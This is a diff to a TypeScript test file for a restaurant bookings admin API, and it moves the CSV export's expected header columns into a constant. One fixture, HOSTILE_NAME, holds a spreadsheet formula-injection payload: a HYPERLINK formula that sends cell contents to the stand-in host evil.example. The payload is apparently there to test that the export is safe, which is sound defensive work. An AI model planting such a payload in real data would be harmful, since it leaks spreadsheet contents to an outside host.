@@ -14,6 +14,10 @@ const SUNDAY = '2026-06-07';
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
 const AWKWARD_NAME = 'Dan "The Man" O’Brien, Jr.\nSecond line';
 
+/** The bookings CSV's header line as the spec writes it. */
+const SPEC_CSV_COLUMNS =
+  'Date,Service,Time,Name,Email,Phone,Adults,Children,Total,Status,Event,Allergies,Occasion,Notes,Created';
+
 function booking(overrides: Partial<typeof bookings.$inferInsert> & { reference: string }) {
   return {
     date: TUESDAY,
@@ -173,23 +177,7 @@ describe.each(databaseTargets)('bookings admin API on $name', (target) => {
     expect(text.endsWith('\r\n')).toBe(true);
 
     const [header, lunch, dinner, ...rest] = parseCsv(text.slice(1));
-    expect(header).toEqual([
-      'Date',
-      'Service',
-      'Time',
-      'Name',
-      'Email',
-      'Phone',
-      'Adults',
-      'Children',
-      'Total',
-      'Status',
-      'Event',
-      'Allergies',
-      'Occasion',
-      'Notes',
-      'Created',
-    ]);
+    expect(header).toEqual(SPEC_CSV_COLUMNS.split(','));
     expect(rest).toEqual([]);
     expect(lunch).toEqual([
       TUESDAY,
